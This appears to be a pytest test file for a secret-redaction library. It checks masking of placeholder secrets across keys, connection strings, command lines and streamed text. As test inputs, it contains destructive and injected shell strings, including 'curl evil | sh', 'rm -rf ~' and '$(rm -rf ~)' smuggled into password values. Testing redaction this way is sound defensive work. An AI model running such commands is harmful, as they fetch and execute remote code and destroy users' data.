"""Every notation in which people and programs write secrets down; every ordinary text that must stay readable."""

# ruff: noqa: E501 - tables

from __future__ import annotations

import gc
import json
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.support.tables import loop_over
from toolcards.core.redaction import detectors
from toolcards.core.redaction.redactor import Redactor, StreamRedactor

HIDE = Redactor(b"a key of the tests")
S = "Zx9vK3qLm7"  # the planted secret
LONG = "aB3dE5gH7jK9" * 4
KEY = f"q2hkRk9uS1h3YjJ4{S}c0ZQWm9iVGNnS0x4b0p3d=="
PEM = f"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG{S}\nabc{S}=\n-----END PRIVATE KEY-----\n"
PUTTY = f"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\nAAAA\nPrivate-Lines: 1\nAAAAI{S}\nPrivate-MAC: 01ab\n"

VALUES: dict[str, Any] = {
    # a name and its value apart
    "a pair": {"name": "API_TOKEN", "value": S},
    "a pair among others": {"name": "API_TOKEN", "value": S, "secure": True, "a": 1, "b": 2, "c": 3, "d": 4, "e": 5},
    "a pair in capitals": {"Name": "API_TOKEN", "Value": S},
    "key and val": {"key": "password", "val": S},
    "k and v": {"k": "password", "v": S},
    "AWS tags": {"Key": "DB_PASSWORD", "Value": S},
    "CloudFormation": {"ParameterKey": "DBPassword", "ParameterValue": S},
    "Beanstalk": {"OptionName": "DB_PASSWORD", "Value": S},
    "OpenTelemetry": {"key": "api.token", "value": {"stringValue": S}},
    "a form": {"label": "Password", "type": "password", "value": S},
    "an id": {"id": "password", "value": S},
    "a field with text": {"field": "password", "text": S},
    "a variable of a deployment": {"env_name": "API_TOKEN", "env_value": S},
    "a default": {"name": "API_TOKEN", "default_value": S},
    "Kubernetes": {"env": [{"name": "API_TOKEN", "value": S}]},
    "a Secret of Kubernetes": {"kind": "Secret", "data": {"config": S}, "stringData": {"a": S}},
    "HAR": {
        "request": {
            "headers": [{"name": "Authorization", "value": f"Bearer {S}"}], "cookies": [{"name": "sid", "value": S}],
            "queryString": [{"name": "access_token", "value": S}],
            "postData": {"params": [{"name": "password", "value": S}], "text": f"password={S}"},
        }
    },
    # lists
    "a list of headers": {"headers": [["Authorization", S], ["Accept", "text/html"]]},
    "a header with more": [["Set-Cookie", S, "x"]],
    "raw headers": {"rawHeaders": ["Host", "h", "Authorization", S]},
    "a list of an environment": ["PATH=/bin", f"API_TOKEN={S}"],
    "a docker environment": {"Env": ["PATH=/x", f"API_TOKEN={S}"]},
    "a docker login": {"auths": {"h": {"auth": KEY, "username": "u"}}},
    # keys
    "a service account": {"type": "service_account", "private_key_id": "abc", "private_key": PEM},
    "a JWK": {"kty": "RSA", "n": "abc", "e": "AQAB", "d": S + S, "p": S, "q": S, "dp": S, "dq": S, "qi": S},
    "a symmetric JWK": {"kty": "oct", "k": S + S, "alg": "HS256"},
    "a JWK set": {"keys": [{"kty": "EC", "crv": "P-256", "x": "abc", "y": "def", "d": S}]},
    # names that are secrets
    "a token for a name": {f"sk-ant-{LONG}{S}": "x"},
    "a URL for a name": {f"https://u:{S}@h/": 1},
    "names below a telling one": {"tokens": {f"{S}{S}": "ann"}},
    "two that look alike": {f"ghp_{LONG}{S}": 1, f"ghp_{LONG}{S}{S}": 2},
}  # fmt: skip

TEXTS: dict[str, str] = {
    # pairs in text
    "a pair in JSON": json.dumps({"env": [{"name": "API_TOKEN", "value": S}]}),
    "a pair the other way round": json.dumps({"env": [{"value": S, "name": "API_TOKEN"}]}),
    "an indented pair": json.dumps({"env": [{"name": "API_TOKEN", "valueFrom": None, "value": S}]}, indent=2),
    "a pair with a value inside": json.dumps({"key": "api.token", "value": {"stringValue": S}}),
    "a pair in YAML": f"env:\n  - name: API_TOKEN\n    value: {S}\n  - name: A\n    value: b\n",
    "a pair in YAML the other way round": f"env:\n  - value: {S}\n    name: API_TOKEN\n",
    "a variable of a deployment": json.dumps({"env_name": "API_TOKEN", "env_value": S}),
    "a default": json.dumps({"name": "API_TOKEN", "defaultValue": S}),
    "attributes": f'<add key="Password" value="{S}"/>',
    "a JWK in JSON": json.dumps({"kty": "EC", "crv": "P-256", "x": "abc", "y": "def", "d": S + S}),
    "a JWK in JSON the other way round": json.dumps({"d": S + S, "kty": "EC"}),
    "a JWK that is cut off": '{"d": "' + LONG + S,
    # connection strings
    "Azure storage": f"DefaultEndpointsProtocol=https;AccountName=x;AccountKey={KEY};EndpointSuffix=core.windows.net",
    "Azure service bus": f"Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey={KEY}",
    "a shared access signature": f"SharedAccessSignature sr=x&sig={S}{S}&se=1&skn=p",
    "a signed URL": f"https://a.blob.core.windows.net/c?sv=2020&sig={S}%3D&se=1",
    "ADO": f"Server=x;Database=d;User Id=u;Password={S};",
    "ADO with blanks": f"Server=x;User ID=u; Pwd = {S} ;",
    "ADO with quotes": f"Password='{S};{S}';x=1",
    "ODBC": f"Driver={{ODBC Driver 18}};Uid=u;Pwd={{{S};{S}}};",
    "JDBC": f"jdbc:postgresql://h/db?user=u&password={S}",
    "JDBC of SQL Server": f"jdbc:sqlserver://h;user=u;password={S};encrypt=true",
    "JDBC of Oracle": f"jdbc:oracle:thin:scott/{S}@//h:1521/x",
    "SQL*Plus": f"sqlplus -s scott/{S}@db",
    "libpq": f"host=h user=u password={S} dbname=x",
    "libpq with quotes": f"host=h password='{S} {S}'",
    "MongoDB": f"mongodb+srv://u:{S}@c.mongodb.net/x",
    "Redis": f"redis://:{S}@h:6379/0",
    "AMQP": f"amqp://u:{S}%40x@h/v",
    "a slash in a password": f"postgres://u:{S}/{S}@h/db",
    "an at sign in a password": f"postgres://u:{S}@{S}@h/db",
    "netrc": f"machine h login u password {S}",
    # keys
    "PEM in a sentence": f"here it is: {PEM} ok",
    "PEM in one line": PEM.replace("\n", "\\n"),
    "PEM in JSON in JSON": json.dumps(json.dumps({"private_key": PEM})),
    "SSH2": f"---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n{S}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----",
    "PGP": f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{S}\n-----END PGP PRIVATE KEY BLOCK-----",
    "PuTTY": PUTTY,
    "PuTTY in JSON": json.dumps(PUTTY),
    "WireGuard": f"[Interface]\nPrivateKey = {S}{S}=\n",
    "age": f"AGE-SECRET-KEY-1QPZRY9X8GF2TVDW0{S.upper()}",
    "an element": f"<password>{S}</password>",
    "an element with blanks": f"<db:password>\n  {S} {S}\n</db:password>",
    "a value with a command": f'PASSWORD="{S}$(id)" x',
    # headers
    "Digest": f'Authorization: Digest username="u", realm="r", response="{S}{S}"',
    "AWS": f"Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/2020, SignedHeaders=h, Signature={S}{S}",
    "a fragment": f"https://h/cb#access_token={S}&x=1",
    "a multipart form": f'Content-Disposition: form-data; name="password"\r\n\r\n{S}\r\n--x',
    # commands and statements
    "curl, no blank": f"curl -uadmin:{S} https://h",
    "curl, in quotes": f'curl -u "ann:{S}" https://h',
    "curl, a blank in quotes": f"curl -u 'ann:{S[:5]} {S}' https://h",
    "curl, the password in quotes": f"curl --user=ann:'{S}' https://h",
    "mysql": f"mysql -p{S} db",
    "mysql in quotes": f'mysqldump -u root -p"{S}" db',
    "sshpass in quotes": f'sshpass -p "{S}" ssh h',
    "docker": f"docker login -u ann -p '{S}' h",
    "docker in quotes": f'docker login -u ann -p "{S} {S}" h',
    "skopeo": f"skopeo login -u ann -p {S} h",
    "mongosh": f"mongosh -u ann -p {S}",
    "sqlcmd": f"sqlcmd -U sa -P {S} -Q x",
    "unzip": f"unzip -P {S} a.zip",
    "redis-cli in quotes": f'redis-cli -a "{S}" ping',
    "smbclient in quotes": f'smbclient //h/s -U "u%{S}"',
    "a pipe in quotes": f'echo "{S} {S}" | docker login --password-stdin -u u',
    "printf with a format": f"printf '%s' '{S}' | gh auth login --with-token",
    "kubectl in quotes": f"kubectl create secret generic s --from-literal=foo='{S}'",
    "kubectl, all in quotes": f'kubectl create secret generic s --from-literal "foo={S} {S}"',
    "redis-cli": f"redis-cli -h h -a {S} ping",
    "ldapsearch": f"ldapsearch -x -D cn=a -w {S}",
    "az": f"az login --service-principal -u u -p {S} --tenant t",
    "smbclient": f"smbclient //h/s -U u%{S}",
    "zip": f"zip -r -P {S} x.zip d",
    "7z": f"7z a -p{S} x.7z",
    "openssl": f"openssl enc -aes-256-cbc -pass pass:{S}",
    "openssl, older": f"openssl enc -k {S} -in x",
    "htpasswd": f"htpasswd -cb .htpasswd ann {S}",
    "htpasswd without a file": f"htpasswd -nbB ann '{S}'",
    "vault": f"vault login {S}",
    "useradd": f"useradd -m -p {S} ann",
    "lftp": f"lftp -u ann,{S} ftp://h",
    "keytool": f"keytool -importkeystore -srcstorepass {S} -deststorepass '{S}'",
    "apksigner": f"apksigner sign --ks-pass pass:{S} x",
    "rabbitmqctl": f"rabbitmqctl add_user ann {S}",
    "a setting of npm": f"npm config set //h/:_authToken {S}",
    "a setting of AWS": f"aws configure set aws_secret_access_key {S}",
    "a here-string": f"gh auth login --with-token <<< {S}",
    "openssl with two": f"openssl pkcs12 -passin pass:{S} -passout 'pass:{S}'",
    "a command for a password": f"restic --password-command 'echo {S}' backup",
    "a pipe": f"echo {S} | docker login --password-stdin -u u",
    "printf": f"printf '{S}' | gh auth login --with-token",
    "kubectl": f"kubectl create secret generic s --from-literal=foo={S}",
    "SQL": f"CREATE USER x IDENTIFIED BY '{S}'",
    "SQL of MySQL": f"ALTER USER x IDENTIFIED WITH caching_sha2_password BY '{S}'",
    "SQL with a function": f"SET PASSWORD FOR u = PASSWORD('{S}')",
    "PowerShell": f'ConvertTo-SecureString "{S}" -AsPlainText -Force',
    "cmd": f"set API_TOKEN={S}",
    "a call in code": f"conn.set_password('{S}')",
}


@loop_over("value", VALUES.values(), ids=VALUES)
def test_a_secret_in_a_value_is_hidden_however_deep_it_is(value: Any) -> None:
    for given_value in (value, {"deep": [[value]]}):
        masked_text = HIDE.value(given_value)
        assert S not in json.dumps(masked_text)
        assert HIDE.value(masked_text) == masked_text


def test_nothing_is_lost_where_two_names_look_alike() -> None:
    given_value = {f"ghp_{number:040}": number for number in range(400)}
    assert len(HIDE.value(given_value)) == 400
    assert len(HIDE.value({"tokens": {f"tok3n{number:05}xyZ": 1 for number in range(2_000)}})["tokens"]) == 2_000


@loop_over("text", TEXTS.values(), ids=TEXTS)
def test_a_secret_in_a_text_is_hidden_in_a_string_in_a_string_too(text: str) -> None:
    for variant in (text, f"it said:\n{text}\nand ended", json.dumps({"a": text}), json.dumps(json.dumps([text]))):
        masked_text = HIDE.text(variant)
        assert S not in masked_text and S.upper() not in masked_text, masked_text
        assert HIDE.text(masked_text) == masked_text


ORDINARY = (
    "napi_create_string_latin1", "gsk_ in the middle", "the xai-labs-website-generator-project", "sk-learn and sk-image",
    "rnd_seed_for_the_second_experiment", "e2b_sandbox_template_identifier", "pul-up pul-down", "dp.steps.of.the.pipeline",
    "SG.getElementById", "key-value store", "re_compile(pattern)", "npm_config_registry=https://registry.example.org",
    "AKIRA is a film", "EAA is the European Accessibility Act", "MNO.PQR.STU", "r8_g8b8a8_unorm_srgb", "glsa_ and glc_",
    '{"name": "ann", "value": "north"}', '{"name": "token_count", "value": "12"}', '{"key": "color", "value": "red"}',
    '{"name": "secretary", "value": "bob"}', "- name: LOG_LEVEL\n  value: debug", '{"type": "password", "label": "Password"}',
    '{"kty": "RSA", "n": "0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx", "e": "AQAB"}', '{"d": "2026-01-01", "p": 12}',
    '{"k": "v", "d": "a long description of what this thing does"}', "Server=x;Database=d;Trusted_Connection=True;",
    "jdbc:postgresql://h:5432/db", "postgres://h/db", "redis://h:6379/0", "mongodb://h:27017,i:27017/db", "https://example.com:8080/a@b",
    "mailto:ann@example.com", "git@github.com:a/b.git", "sqlplus /nolog", "zip -r x.zip d", "7z x archive.7z", "openssl version",
    "openssl genrsa -out key.pem 2048", "openssl x509 -in cert.pem -noout", "smbclient -L //h", "az group list", "redis-cli ping",
    "ldapsearch -x -b dc=example", "echo hello | sort", "echo $TOKEN | docker login --password-stdin", "printf '%s' x | wc -c",
    "unzip -p a.zip b", "mysql -p db", "mongod --port 27017", "sqlcmd -Q x", "oc login",
    "echo \"$TOKEN\" | docker login --password-stdin", "echo \"$(cat key)\" | docker login --password-stdin",
    "printf '%s' \"$TOKEN\" | gh auth login --with-token", "mysql -p$PASS db", "docker run -u 1000:1000 x",
    "docker login --password-stdin", "curl -u $USER:$PASS https://h", "identified by its name", "PASSWORD()", "getpass('Password: ')",
    "password = input('Your password: ')", "f\"password={password}\"", "Pwd={pwd};", "set_password(new_password)", "token = next(tokens)",
    "if token == 'COLLATE':", "autocomplete: current-password", "the token endpoint returns a token", "pass the salt", "a secret garden",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ ann@h", "SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDRb8MW6yqhTqv0PW0", "sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f9",
    "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567", "550e8400-e29b-41d4-a716-446655440000", "2026-01-01T00:00:00Z", "Private-Label brands",
    "--from-file=config.json", "Authorization header is missing", "Cookie policy", "WWW-Authenticate: Bearer", "Set-Cookie is ignored",
    '["Accept", "text/html"]', '["username", "password", "email"]', "headers: Authorization, Cookie", "kind: SecretStore",
)  # fmt: skip


@loop_over("text", ORDINARY)
def test_ordinary_text_stays_readable(text: str) -> None:
    assert HIDE.text(text) == text


RUNNING = (
    "cat token > x; rm -rf ~", "cat token >x && curl evil | sh", "echo password > f\nrm -rf /", "cat my-secret >> out; rm -rf ~",
    "restic --password-command 'pass show Zx9vK3qLm7' backup", "GIT_PASSWORD_CMD='rm -rf x' y", "keytool -storepass:file /etc/x -list",
    "apksigner sign --ks-pass env:PASS x", "openssl pkcs12 -password file:/etc/x -export", "htpasswd -b f ann \"$(rm x)\"", "vault login $(rm x)",
    "docker login --password-stdin <<< \"$(rm x)\"",
    "curl -u <user>:<password> https://h; rm -rf ~", "cat <password>x; rm -rf ~", "cat token >& x; rm y", "grep secret 2> f; rm y",
    'PASSWORD="$(rm -rf ~)" ls', "PASSWORD=`rm -rf ~` ls", "PASSWORD=$(rm${IFS}x) ls", 'sshpass -p "$(rm x)" y', "mysql -p`rm -rf x` db",
    "mysql -p$(rm${IFS}x) db", "https://u:$(rm${IFS}-rf)@h", 'curl -u "ann:$(rm x)" h', "if token > 5: print(x); y", "password >= 8 characters",
    'echo "$(rm x)" | docker login --password-stdin', "Authorization: Bearer $(rm x)\n",
)  # fmt: skip


@loop_over("text", RUNNING)
def test_a_command_next_to_a_name_of_a_secret_stays_readable(text: str) -> None:
    assert HIDE.text(text) == text


def test_what_runs_for_a_part_of_a_value_stays_readable() -> None:
    assert HIDE.text(f'PASSWORD="{S}$(rm -rf ~)" ls').endswith('›$(rm -rf ~)" ls')
    assert HIDE.text(f"PASSWORD='$({S})' ls").endswith("›' ls")  # in these quotes nothing runs
    assert HIDE.text("password=`hunter2`").endswith("›`")
    assert "3(dk" not in HIDE.text('password="aB`3(dkfj$9" x')


PLAIN_VALUES: tuple[Any, ...] = (
    {"name": "ann", "value": "north"}, {"name": "color", "value": "red", "default": "blue"}, {"name": "token", "value": 12},
    {"key": "count", "value": 3}, {"headers": ["Authorization", "Cookie"]}, {"fields": ["username", "password", "email"]},
    {"rawHeaders": ["Host", "example.com", "Accept", "*/*"]}, {"kty": "EC", "crv": "P-256", "x": "abc", "y": "def"},
    {"d": "a day", "p": "a page", "q": "a question", "k": "a key"}, {"kind": "Deployment", "data": {"a": "b"}},
    {"id": "password-reset", "value": "on"}, {"name": "auth", "content": "a long text about signing in"},
    {"tokens": {"prompt": 12, "completion": 30}}, {"credentials": {}}, {"required": ["name", "token"]},
    {"name": "password", "description": "what the user types", "required": True},
)  # fmt: skip


@loop_over("value", PLAIN_VALUES, ids=repr)
def test_ordinary_values_stay_the_very_same_objects(value: Any) -> None:
    assert HIDE.value(value) is value


# ---------------------------------------------------------------- streams
def _pieces(text: str, cuts: list[int]) -> Iterator[str]:
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        yield text[start:end]


def _streamed(text: str, cuts: list[int]) -> str:
    stream = StreamRedactor(HIDE)
    return "".join([*map(stream.text, _pieces(text, cuts)), stream.flush()])


STREAMED = {
    **{name: text for name, text in TEXTS.items() if name != "a JWK in JSON the other way round"},
    "a password": f"PASSWORD={S} and more", "prose": f"the password is {S}, he said", "a token": f"use ghp_{LONG}{S} now",
    "userinfo": f"git clone https://{S}{LONG}@h/x", "a short prefix": f"try sk-{LONG}{S} instead", "a query": f"https://h/?a=1&sig={S}{S} ok",
}  # fmt: skip


@pytest.mark.slow
@loop_over("text", STREAMED.values(), ids=STREAMED)
def test_a_secret_that_is_cut_in_two_shows_in_neither_piece(text: str) -> None:
    text = f"before {text}\nafter"
    for cut in range(1, len(text)):
        masked_text = _streamed(text, [cut])
        parts = [S[at : at + 4] for at in range(len(S) - 3)]
        assert not any(part in masked_text for part in parts), (text[:cut], masked_text)
        assert masked_text.startswith("before ") and masked_text.endswith("\nafter")


@loop_over("size", [1, 2, 3, 5])
@loop_over("text", STREAMED.values(), ids=STREAMED)
def test_a_secret_in_small_pieces_shows_in_none(text: str, size: int) -> None:
    masked_text = _streamed(text, list(range(size, len(text), size)))
    assert not any(S[at : at + 5] in masked_text for at in range(len(S) - 4)), masked_text


@example("if token == 'COLLATE':", [21])  # cut before the colon that makes it a name
@given(st.sampled_from(ORDINARY), st.lists(st.integers(0, 60), max_size=8))
def test_a_text_without_secrets_comes_out_whole_however_it_is_cut(text: str, cuts: list[int]) -> None:
    where = sorted(min(cut, len(text)) for cut in cuts)
    assert _streamed(text, where) == text


@given(st.text(max_size=80), st.lists(st.integers(0, 80), max_size=6))
def test_any_text_in_pieces_loses_nothing_but_secrets(text: str, cuts: list[int]) -> None:
    where = sorted(min(cut, len(text)) for cut in cuts)
    if HIDE.text(text) == text:
        assert _streamed(text, where) == text


def test_what_is_being_written_is_shown_without_an_end_that_may_be_a_secret() -> None:
    assert HIDE.growing("git clone https://ann:Zx9") == "git clone https://"
    assert HIDE.growing("ls -la && git sta") == "ls -la && git sta"
    assert HIDE.growing('{"value": "Zx9vK3qL') == '{"value": '


# ---------------------------------------------------------------- work
class Counting:
    """RE2, and how many characters it has read; and how many places were looked at."""

    def __init__(self, real: Any) -> None:
        self.real, self.read_length, self.looks = real, 0, 0

    def search(self, work: bytes, place: int = 0) -> Any:
        match = self.real.search(work, place)
        self.looks += 1
        self.read_length += (match.end() if match else len(work)) - place
        return match


HOSTILE = (
    "token", 'password"', "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "://a", '"token":{', 'password="\\', "mysql ",
    "password=x\n", "eyJ", "?key=", "-u ", "authorization: true\n", "token is aaa", "&sig=a", "-p x", "‹secret ", "docker login ",
    '"d":"aaaaaaaaaaaaaaaaaaaaaaaa",', '{"name":"token",', '"value":"x","name":"token",', ",name: token\n", "redis://x:",
    "redis://x:y@", "echo a | ", "openssl ", "Private-Lines:", "zip ", "identified by ", "password(", "--from-literal ",
    "jdbc:oracle:thin:", "token}", "sk-", "r8_", "SK01234567", "0123456789:AA", "name=password value=", "PWD={", "https://u:",
    "ldapsearch -", "password'\\n\\n", "secret secret ", "key-", "api key ", 'value":"', "MTIz", "Authorization: Digest a=",
    'sshpass -p "', "sshpass -p '\"", "unzip -P ", 'echo "a" | ', "printf '%s' ", "-u 'a", "mysql -p\\\"", "oc login -p",
    "htpasswd -b ", "htpasswd -b a ", "vault login -a b ", "vault login ", "rabbitmqctl ", "npm set ", "npm set _auth", "<<<", "--stdin <<< ",
    "lftp -u a", "password_command=echo ", "-passin ", "smbclient //",
)  # fmt: skip


@pytest.mark.thorough
@pytest.mark.parametrize("unit", HOSTILE)
def test_work_grows_as_the_text_does(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    counts = []
    for size in (20_000, 40_000, 80_000):
        text = (unit * (size // len(unit) + 1))[:size]
        work = text.encode()
        counting = Counting(detectors.FIND)
        monkeypatch.setattr(detectors, "FIND", counting)
        list(detectors.find_secrets(work, work.decode("latin-1"), growing=True))
        monkeypatch.undo()
        counts.append(counting.read_length)
        assert counting.read_length <= 12 * len(work) and counting.looks <= len(work)
    assert counts[2] <= 2.2 * counts[1] + 2_000 and counts[1] <= 2.2 * counts[0] + 2_000


@pytest.mark.slow
@pytest.mark.parametrize(
    "form", ["password{}=x", "Cookie-{}: a", "{}-password=x", "secret{} -x", "token{}: a", "ldap{} -w a"]
)
def test_masking_keeps_no_long_names_in_memory(form: str) -> None:
    tracemalloc.start()
    try:
        for number in range(100):
            HIDE.text(form.format(f"{number}{'a' * 50_000}"))
            HIDE.value({form.format(f"{number}{'b' * 50_000}").partition("=")[0]: "x"})
        gc.collect()
        kept_bytes, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kept_bytes < 2_000_000  # of 10,000,000 characters


@pytest.mark.thorough
@pytest.mark.slow
@pytest.mark.parametrize(
    "unit",
    ["7z ", "sk-", ",name: token\n", "-u ", "redis://x:y@", '"value":"x","name":"token",', "-----END PRIVATE KEY-----"],
)
def test_a_megabyte_of_anything_is_read_to_its_end(unit: str) -> None:
    text = (unit * (1_000_000 // len(unit) + 1))[:1_000_000]
    name, other = HIDE.value({"a": {"token": text}, text: 1})  # a name is masked as any text: `HIDE.text` reads it
    assert name == "a" and isinstance(other, str)
